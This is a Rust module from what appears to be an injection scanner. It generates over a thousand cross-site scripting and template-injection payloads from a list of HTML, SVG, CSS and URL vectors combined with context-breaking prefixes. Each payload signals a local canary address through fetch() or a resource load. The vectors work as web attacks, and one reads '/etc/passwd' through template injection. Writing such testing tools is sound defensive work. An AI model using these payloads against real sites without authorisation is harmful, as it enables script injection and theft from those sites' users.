//! Texts that become scripts, requests or forms wherever they are not escaped: each names the canary's address, so that
//! whatever runs or loads is heard.

/// Ways to run a script or to load something, for HTML text and for attributes. `@` stands for the canary's address with
/// a number that tells which one was heard; `%` for a script that calls it.
const VECTORS: &[&str] = &[
    "<script>%</script>",
    "<ScRiPt >%</sCrIpT >",
    "<script src=@></script>",
    "<script/src='@'></script>",
    "<svg><script>%</script></svg>",
    "<svg/onload=%>",
    "<svg onload=%//",
    "<svg><animate onbegin=% attributeName=x dur=1s>",
    "<svg><set onbegin=% attributeName=x>",
    "<svg><image href=@ />",
    "<svg><use href='@#x'/></svg>",
    "<svg><foreignObject><iframe src=@></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=@ onerror=%></style>",
    "<math href='javascript:%'>x</math>",
    "<img src=@>",
    "<img src=x onerror=%>",
    "<img src=x onerror='%'>",
    "<img src=x onerror=\"%\">",
    "<img srcset='@ 1x, @ 2x'>",
    "<img src=`@`>",
    "<image src=@>",
    "<picture><source srcset=@><img></picture>",
    "<body onload=%>",
    "<body background=@>",
    "<table background=@><tr><td background=@>x</table>",
    "<iframe src=@></iframe>",
    "<iframe srcdoc='<script>%</script>'></iframe>",
    "<iframe src='javascript:%'></iframe>",
    "<frameset><frame src=@></frameset>",
    "<object data=@></object>",
    "<embed src=@>",
    "<applet code=@></applet>",
    "<link rel=stylesheet href=@>",
    "<link rel=prefetch href=@>",
    "<link rel=preload as=image href=@>",
    "<link rel=dns-prefetch href=@>",
    "<link rel=icon href=@>",
    "<style>@import url(@);</style>",
    "<style>*{background:url(@)}</style>",
    "<style>@font-face{font-family:x;src:url(@)}*{font-family:x}</style>",
    "<div style='background:url(@)'>x</div>",
    "<div style=\"background-image:\\75rl(@)\">x</div>",
    "<div style='behavior:url(@)'>x</div>",
    "<p style='list-style-image:url(@);display:list-item'>x</p>",
    "<p style='content:url(@)'>x</p>",
    "<p style='cursor:url(@),auto'>x</p>",
    "<meta http-equiv=refresh content='0;url=@'>",
    "<meta http-equiv=refresh content='0;url=javascript:%'>",
    "<base href=@>",
    "<video src=@ autoplay></video>",
    "<video poster=@></video>",
    "<video><source onerror=%></video>",
    "<audio src=@ autoplay onerror=%></audio>",
    "<track src=@>",
    "<input type=image src=@>",
    "<input autofocus onfocus=%>",
    "<select autofocus onfocus=%><option>x</select>",
    "<textarea autofocus onfocus=%></textarea>",
    "<button autofocus onfocus=%>x</button>",
    "<details open ontoggle=%>x</details>",
    "<marquee onstart=%>x</marquee>",
    "<a href='javascript:%' autofocus onfocus=%>x</a>",
    "<a ping=@ href=@>x</a>",
    "<form action=@><button>x</button></form><script>document.forms[0].submit()</script>",
    "<isindex action=@ type=image src=@>",
    "<keygen autofocus onfocus=%>",
    "<xss style='animation-name:x' onanimationstart=%></xss><style>@keyframes x{}</style>",
    "<div contenteditable autofocus onfocus=%>x</div>",
    "<template shadowrootmode=open><img src=@></template>",
    "<portal src=@></portal>",
    "<noscript><p title='</noscript><img src=x onerror=%>'>",
    "<title></title><img src=@>",
    "<textarea></textarea><img src=@>",
    "<xmp></xmp><img src=@>",
    "<!--><img src=@>-->",
    "<!--[if IE]><img src=@><![endif]-->",
    "<![CDATA[><img src=@>]]>",
    "<?xml-stylesheet href='@'?>",
    "<x onclick=% autofocus tabindex=0 onfocus=%>x",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}<img src=@>",
    "${%}<img src=@>",
    "[x](javascript:%) ![x](@)",
    "<https://example.org/\"onmouseover=\"%>",
    "javascript:%",
    "data:text/html,<script>%</script>",
];

/// What may end the place where a text stands: an attribute, an element, a comment.
const ENDS: &[&str] = &[
    "",
    "\">",
    "'>",
    "` ",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "\" autofocus onfocus=\"%\" x=\"",
    "' autofocus onfocus='%' x='",
    "]]>",
];

/// At least a thousand different texts. `canary` is an address of this machine; each text asks there for a number of its
/// own.
pub fn payloads(canary: &str) -> Vec<String> {
    let mut all = Vec::new();
    for vector in VECTORS {
        for end in ENDS {
            let url = format!("{canary}/{}", all.len());
            let script = format!("fetch(`{url}`)");
            all.push(format!("{end}{vector}").replace('@', &url).replace('%', &script));
        }
    }
    assert!(all.len() >= 1000, "{} payloads", all.len());
    all
}
